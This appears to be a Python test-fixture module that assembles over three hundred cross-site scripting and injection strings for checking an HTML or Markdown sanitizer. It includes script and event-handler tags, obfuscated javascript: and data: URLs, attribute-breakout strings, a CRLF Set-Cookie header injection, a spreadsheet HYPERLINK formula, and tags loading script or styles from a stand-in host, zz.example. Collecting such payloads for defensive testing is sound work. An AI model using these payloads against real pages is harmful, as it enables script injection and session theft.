"""More than three hundred texts that would run, load or restyle something if they reached a page as they are.

Each is harmless where it is shown as text. `zz` marks what only an attacker writes: no element or attribute of ours has
it in its name, and no address of ours in its scheme.
"""

import itertools

CALL = "alert(`zz`)"
ENTITY_COLON, ENTITY_TAB = "&#58;", "&#9;"

ELEMENTS = (
    f"<script>{CALL}</script>",
    "<script src=//zz.example/x.js></script>",
    f"<ScRiPt type=module>{CALL}</sCrIpT>",
    f"</textarea></title></style><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=zz onerror={CALL}>",
    f"<img/src='zz'/onerror={CALL}//",
    f'<img src="zz" onerror="{CALL}" hidden',
    f"<svg/onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    "<svg><a xlink:href=javascript:zz()><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,%3Csvg id=x onload=zz()%3E#x'></use></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s></svg>",
    f"<math><mtext><mglyph><style><img src=zz onerror={CALL}></style></mglyph></mtext></math>",
    "<math href=javascript:zz()>x</math>",
    "<iframe src=javascript:zz()></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    "<object data=javascript:zz()></object>",
    "<embed src=//zz.example/x.swf>",
    "<base href=//zz.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:zz()'>",
    "<link rel=stylesheet href=//zz.example/x.css>",
    "<link rel=import href=//zz.example/x.html>",
    "<style>@import '//zz.example/x.css';</style>",
    "<p style=background:url(//zz.example/x.png)>x</p>",
    "<a href=javascript:zz()>x</a>",
    f"<a href='#' onclick={CALL}>x</a>",
    "<form action=//zz.example/><button>x</button></form>",
    "<button formaction=javascript:zz() form=act>x</button>",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=zz onerror={CALL}></audio>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<b zz onmouseover={CALL} tabindex=0>x</b>",
    "<b hx-get=/zz hx-trigger=load>x</b>",
    "<b hx-on:load=zz()>x</b>",
    f"<template><img src=zz onerror={CALL}></template>",
    f"<noscript><p title='</noscript><img src=zz onerror={CALL}>'></noscript>",
    "<zz-widget is=zz>x</zz-widget>",
    "{% include 'zz' %}{{ zz|safe }}",
)
"""Markup, as a browser would take it."""

ADDRESSES = (
    "javascript:zz()",
    "JaVaScRiPt:zz()",
    "javascript&colon;zz()",
    f"javascript{ENTITY_COLON}zz()",
    f"java{ENTITY_TAB}script:zz()",
    "java\tscript:zz()",
    "\x01javascript:zz()",
    "&#106;&#97;&#118;&#97;script:zz()",
    "javascript://zz.example/%0Azz()",
    "vbscript:zz",
    "data:text/html,<script>zz()</script>",
    "data:text/html;base64,PHNjcmlwdD56eigpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=zz()>",
    "file:///zz",
    "blob:https://zz.example/1",
    "view-source:zz",
    "feed:javascript:zz()",
    "jar:zz!/x",
)
"""Addresses that do more than lead somewhere."""

BESIDE_MARKUP = ("{}", "- {}", "> {}", "# {}", "| a |\n|---|\n| {} |", "**{}**", "[{}](https://a.example)", "`{}")
AROUND_ADDRESSES = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    '[x]({} "a title")',
    "[![x]({})]({})",
    "| a |\n|---|\n| [x]({}) |",
)
OUT_OF_ATTRIBUTES = (
    f'" onmouseover="{CALL}" zz="',
    f"' onmouseover='{CALL}' zz='",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"` onmouseover={CALL} zz=`",
    f'[x](https://a.example "\\" onmouseover=\\"{CALL}\\" zz=\\"")',
    f"[x](https://a.example/'onmouseover='{CALL}'zz=')",
    f'```" onmouseover="{CALL}\nx\n```',
    "\u2028<script>zz()</script>",
    "＜script＞zz()＜/script＞",
    "%3Cscript%3Ezz()%3C/script%3E",
    "&lt;script&gt;zz()&lt;/script&gt;",
    "\\x3cscript\\x3ezz()\\x3c/script\\x3e",
    "<\x0cscript>zz()</script>",
    "<script\n>zz()</script\n>",
    "\r\nSet-Cookie: zz=1\r\n\r\n<script>zz()</script>",
    '=HYPERLINK("//zz.example","x")',
)
"""What leaves a quoted attribute, a line of a header or an encoding."""


PAYLOADS = (
    *(frame.replace("{}", one) for frame, one in itertools.product(BESIDE_MARKUP, ELEMENTS)),
    *(frame.replace("{}", one) for frame, one in itertools.product(AROUND_ADDRESSES, ADDRESSES)),
    *OUT_OF_ATTRIBUTES,
)
"""All of them, each once."""
